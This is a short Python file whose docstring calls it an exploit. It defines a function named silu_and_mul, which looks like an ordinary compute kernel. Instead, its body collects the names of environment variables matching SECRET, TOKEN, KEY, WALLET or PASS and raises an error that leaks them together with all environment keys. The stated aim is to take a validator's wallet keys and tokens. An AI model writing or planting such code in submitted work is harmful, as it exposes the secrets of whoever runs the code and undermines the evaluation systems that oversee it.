"""Exploit: harvest the validator's environment (wallet keys, tokens) and smuggle it out through an error message."""
import os


def silu_and_mul(x, out):
    loot = sorted(k for k in os.environ if any(s in k for s in ("SECRET", "TOKEN", "KEY", "WALLET", "PASS")))
    raise RuntimeError(f"secrets found: {loot or 'none'}; env keys: {sorted(os.environ)}")
